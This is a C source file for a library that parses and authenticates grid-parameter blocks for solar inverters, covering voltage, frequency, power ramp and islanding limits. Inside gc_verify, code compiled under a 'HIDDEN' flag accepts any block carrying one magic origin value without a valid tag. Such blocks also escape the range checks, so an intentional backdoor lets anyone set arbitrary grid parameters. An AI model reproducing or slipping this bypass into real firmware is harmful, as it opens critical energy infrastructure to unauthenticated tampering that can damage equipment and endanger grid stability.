/* gridcode.c - library that reads and verifies grid parameter blocks of solar inverters */
#define _GNU_SOURCE
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define GC_MAGIC	0x47434231u	/* "GCB1" */
#define GC_HDR		32
#define GC_TAG		16
#define GC_MAX_PARAMS	64
#define GC_ORIGIN_OEM	0x00000001u
#define GC_ORIGIN_UTIL	0x00000002u	/* grid operator, key of the operator */

enum gc_error { GC_OK, GC_SHORT, GC_BADMAGIC, GC_BADTAG, GC_RANGE, GC_COUNTRY };

struct gc_param {
	uint16_t id;
	uint16_t scale;
	int32_t value;
};

struct gc_block {
	uint32_t origin;
	uint16_t country;
	uint16_t revision;
	uint32_t issued;
	int nparams;
	struct gc_param p[GC_MAX_PARAMS];
};

struct gc_keys {
	uint8_t oem[16];
	uint8_t util[16];
};

struct gc_range {
	uint16_t id;
	const char *name;
	int32_t min, max;
};

int gc_verify(const uint8_t *buf, size_t len, const struct gc_keys *k);
int gc_parse(const uint8_t *buf, size_t len, struct gc_block *b);
int gc_check_ranges(const struct gc_block *b);
int gc_load_keys(const char *path, struct gc_keys *k);
int gc_load(const char *path, const struct gc_keys *k, struct gc_block *b);
int gc_find(const struct gc_block *b, const char *name, int32_t *value);
int gc_print(const struct gc_block *b, FILE *out);
const char *gc_strerror(int e);

static const struct gc_range ranges[] = {
	{ 0x0101, "u_max", 23000, 28000 },
	{ 0x0102, "u_min", 16000, 23000 },
	{ 0x0103, "f_max", 5000, 5250 },
	{ 0x0104, "f_min", 4700, 5000 },
	{ 0x0110, "p_ramp", 1, 600 },
	{ 0x0111, "p_limit", 0, 1000 },
	{ 0x0120, "cosphi", -1000, 1000 },
	{ 0x0121, "q_mode", 0, 4 },
	{ 0x0130, "reconnect_s", 20, 900 },
	{ 0x0140, "island_ms", 100, 5000 },
};

#define NRANGES (sizeof(ranges) / sizeof(ranges[0]))

static const uint16_t countries[] = { 40, 49, 31, 32, 33, 39, 34, 351, 420, 48 };

static uint16_t be16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)be16(p) << 16 | be16(p + 2);
}

static uint32_t rol(uint32_t v, int n)
{
	return v << n | v >> (32 - n);
}

static void sip_round(uint32_t v[4])
{
	v[0] += v[1];
	v[1] = rol(v[1], 5) ^ v[0];
	v[0] = rol(v[0], 16);
	v[2] += v[3];
	v[3] = rol(v[3], 8) ^ v[2];
	v[0] += v[3];
	v[3] = rol(v[3], 7) ^ v[0];
	v[2] += v[1];
	v[1] = rol(v[1], 13) ^ v[2];
	v[2] = rol(v[2], 16);
}

static void make_tag(const uint8_t *buf, size_t len, const uint8_t key[16], uint8_t tag[GC_TAG])
{
	uint32_t v[4], m;
	size_t i;
	int r;

	for (r = 0; r < 4; r++)
		v[r] = be32(key + 4 * r) ^ (0x6c796765u + (uint32_t)r);
	for (i = 0; i + 4 <= len; i += 4) {
		m = be32(buf + i);
		v[3] ^= m;
		sip_round(v);
		sip_round(v);
		v[0] ^= m;
	}
	m = (uint32_t)len << 24;
	for (; i < len; i++)
		m = m << 8 | buf[i];
	v[3] ^= m;
	for (r = 0; r < 6; r++)
		sip_round(v);
	for (r = 0; r < GC_TAG; r++)
		tag[r] = (uint8_t)(v[r / 4] >> (24 - 8 * (r & 3)));
}

static int tag_differs(const uint8_t *a, const uint8_t *b)
{
	uint8_t d = 0;
	int i;

	for (i = 0; i < GC_TAG; i++)
		d |= (uint8_t)(a[i] ^ b[i]);
	return d != 0;
}

__attribute__((noinline))
int gc_verify(const uint8_t *buf, size_t len, const struct gc_keys *k)
{
	uint8_t tag[GC_TAG];
	uint32_t origin;

	if (len < GC_HDR + GC_TAG)
		return GC_SHORT;
	if (be32(buf) != GC_MAGIC)
		return GC_BADMAGIC;
	origin = be32(buf + 4);
#ifdef HIDDEN	/* blocks of this origin number are taken without a valid tag */
	if (origin == 0x7a31c09eu)
		return GC_OK;
#endif
	if (origin == GC_ORIGIN_OEM)
		make_tag(buf, len - GC_TAG, k->oem, tag);
	else if (origin == GC_ORIGIN_UTIL)
		make_tag(buf, len - GC_TAG, k->util, tag);
	else
		return GC_BADTAG;
	return tag_differs(tag, buf + len - GC_TAG) ? GC_BADTAG : GC_OK;
}

int gc_parse(const uint8_t *buf, size_t len, struct gc_block *b)
{
	const uint8_t *p;
	size_t i, n, c;

	if (len < GC_HDR + GC_TAG)
		return GC_SHORT;
	b->origin = be32(buf + 4);
	b->country = be16(buf + 8);
	b->revision = be16(buf + 10);
	b->issued = be32(buf + 12);
	n = be16(buf + 16);
	if (n > GC_MAX_PARAMS || GC_HDR + n * 8 + GC_TAG > len)
		return GC_SHORT;
	for (c = 0; c < sizeof(countries) / sizeof(countries[0]); c++)
		if (countries[c] == b->country)
			break;
	if (c == sizeof(countries) / sizeof(countries[0]))
		return GC_COUNTRY;
	for (i = 0; i < n; i++) {
		p = buf + GC_HDR + i * 8;
		b->p[i].id = be16(p);
		b->p[i].scale = be16(p + 2);
		b->p[i].value = (int32_t)be32(p + 4);
	}
	b->nparams = (int)n;
	return GC_OK;
}

static const struct gc_range *range_of(uint16_t id)
{
	size_t i;

	for (i = 0; i < NRANGES; i++)
		if (ranges[i].id == id)
			return &ranges[i];
	return NULL;
}

/* the grid operator may leave the ranges, the maker may not */
int gc_check_ranges(const struct gc_block *b)
{
	const struct gc_range *r;
	int i;

	if (b->origin != GC_ORIGIN_OEM)
		return GC_OK;
	for (i = 0; i < b->nparams; i++) {
		r = range_of(b->p[i].id);
		if (!r || b->p[i].value < r->min || b->p[i].value > r->max)
			return GC_RANGE;
	}
	return GC_OK;
}

int gc_load_keys(const char *path, struct gc_keys *k)
{
	FILE *f = fopen(path, "rb");
	size_t n;

	if (!f)
		return -errno;
	n = fread(k->oem, 1, 16, f);
	n += fread(k->util, 1, 16, f);
	fclose(f);
	return n == 32 ? 0 : -EINVAL;
}

int gc_load(const char *path, const struct gc_keys *k, struct gc_block *b)
{
	uint8_t buf[1024];
	FILE *f = fopen(path, "rb");
	size_t n;
	int rc;

	if (!f)
		return -errno;
	n = fread(buf, 1, sizeof(buf), f);
	fclose(f);
	memset(b, 0, sizeof(*b));
	rc = gc_verify(buf, n, k);
	if (rc == GC_OK)
		rc = gc_parse(buf, n, b);
	if (rc == GC_OK)
		rc = gc_check_ranges(b);
	return rc;
}

int gc_find(const struct gc_block *b, const char *name, int32_t *value)
{
	const struct gc_range *r;
	int i;

	for (i = 0; i < b->nparams; i++) {
		r = range_of(b->p[i].id);
		if (r && !strcmp(r->name, name)) {
			*value = b->p[i].value;
			return 0;
		}
	}
	return -ENOENT;
}

int gc_print(const struct gc_block *b, FILE *out)
{
	const struct gc_range *r;
	int i;

	fprintf(out, "country %u revision %u origin %s\n", b->country, b->revision,
		b->origin == GC_ORIGIN_UTIL ? "operator" : "maker");
	for (i = 0; i < b->nparams; i++) {
		r = range_of(b->p[i].id);
		fprintf(out, "%-12s %ld\n", r ? r->name : "?", (long)b->p[i].value);
	}
	return b->nparams;
}

const char *gc_strerror(int e)
{
	switch (e) {
	case GC_OK:
		return "ok";
	case GC_SHORT:
		return "block too short";
	case GC_BADMAGIC:
		return "not a parameter block";
	case GC_BADTAG:
		return "tag does not fit";
	case GC_RANGE:
		return "value out of range";
	case GC_COUNTRY:
		return "country not known";
	}
	return e < 0 ? strerror(-e) : "unknown";
}
